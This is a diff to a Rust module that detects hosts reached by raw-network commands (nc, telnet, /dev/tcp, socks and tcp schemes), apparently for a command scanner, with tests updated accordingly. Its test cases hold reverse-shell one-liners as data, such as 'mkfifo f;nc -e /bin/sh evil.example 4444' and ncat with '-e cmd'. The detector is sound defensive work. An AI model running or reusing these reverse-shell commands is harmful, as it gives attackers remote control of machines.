@@ -1,9 +1,9 @@
 //! Machines that a command connects to and names without a URL of the web: `/dev/tcp/evil.example/443`, `nc evil.example 443`.
 
 /// Schemes of plain connections, of tunnels and of what forged requests speak. What programs of one's own speak with one's own servers
-/// (databases, queues) is not among them.
-const SCHEMES: [&str; 13] = [
-    "dict", "gopher", "rdp", "socks", "socks4", "socks4a", "socks5", "socks5h", "ssh", "ssl", "tcp", "telnet", "udp",
+/// (databases, queues, `ssh`) is not among them.
+const SCHEMES: [&str; 12] = [
+    "dict", "gopher", "rdp", "socks", "socks4", "socks4a", "socks5", "socks5h", "ssl", "tcp", "telnet", "udp",
 ];
 
 /// Programs that are told a machine and its port.
@@ -46,29 +46,30 @@ fn schemes(text: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// The first word behind a program that a port follows.
+/// The word behind a program that a port follows. A number behind a switch is that of the switch: `-w 3`.
 fn programs(text: &str) -> impl Iterator<Item = &str> {
-    let mut words = text.split(is_between).filter(|word| !word.is_empty());
-    let mut is_told = false;
-    let mut last = None;
-    std::iter::from_fn(move || {
-        loop {
-            let word = words.next()?;
-            if is_program(word) {
-                (is_told, last) = (true, None);
-                continue;
+    text.split(['\n', '\r', ';', '|', '&']).filter_map(|command| {
+        let words = command.split(is_between).filter(|word| !word.is_empty());
+        let (mut host, mut is_behind_a_switch): (Option<&str>, bool) = (None, false);
+        for word in words.skip_while(|word| !is_program(word)).skip(1) {
+            let is_number = word.len() <= 5 && word.parse::<u16>().is_ok();
+            if is_number && host.is_some() && !is_behind_a_switch {
+                return host.filter(|host| !is_a_file(host));
             }
-            if !is_told {
-                continue;
+            is_behind_a_switch = word.starts_with('-');
+            if !is_number && !is_behind_a_switch {
+                host = Some(word);
             }
-            let is_port = word.len() <= 5 && word.parse::<u16>().is_ok();
-            if let Some(host) = last.filter(|_| is_port) {
-                is_told = false;
-                return Some(host);
-            }
-            last = Some(word);
         }
+        None
     })
+}
+
+/// Whether a word is rather called as a file is: these are top-level domains, too, or may be.
+fn is_a_file(word: &str) -> bool {
+    const ENDS: [&str; 9] = ["cnf", "md", "pl", "py", "rb", "sh", "so", "tar", "wsgi"];
+    let end = word.rsplit_once('.').map(|(_, end)| end);
+    end.is_some_and(|end| ENDS.iter().any(|one| one.eq_ignore_ascii_case(end)))
 }
 
 fn is_program(word: &str) -> bool {
@@ -116,6 +117,10 @@ mod tests {
             ("rm f;mkfifo f;nc -e /bin/sh evil.example 4444", &["evil.example"]),
             (r#"cmd /c "C:\t\NCAT.exe" evil.example 80 -e cmd"#, &["evil.example"]),
             ("sh -c 'telnet -4 evil.example 23'", &["evil.example"]),
+            (
+                "nc -w 3 a.example 443; nc -q 0 -X 5 b.example 80 -e sh",
+                &["a.example", "b.example"],
+            ),
         ] {
             assert_eq!(hosts(text).collect::<Vec<_>>(), expected, "{text}");
         }
@@ -126,6 +131,11 @@ mod tests {
             "psql postgres://db.example:5432",
             "nc -l 4444",
             "nc -zv evil.example",
+            "nc -l 4444; run a.example 80",
+            "command -v telnet || bash deploy.sh 5",
+            "which nc; python3 manage.py 8000",
+            "nc deploy.sh 5",
+            "git clone ssh://git@code.example/x",
             "func evil.example 80",
             "://",
         ] {
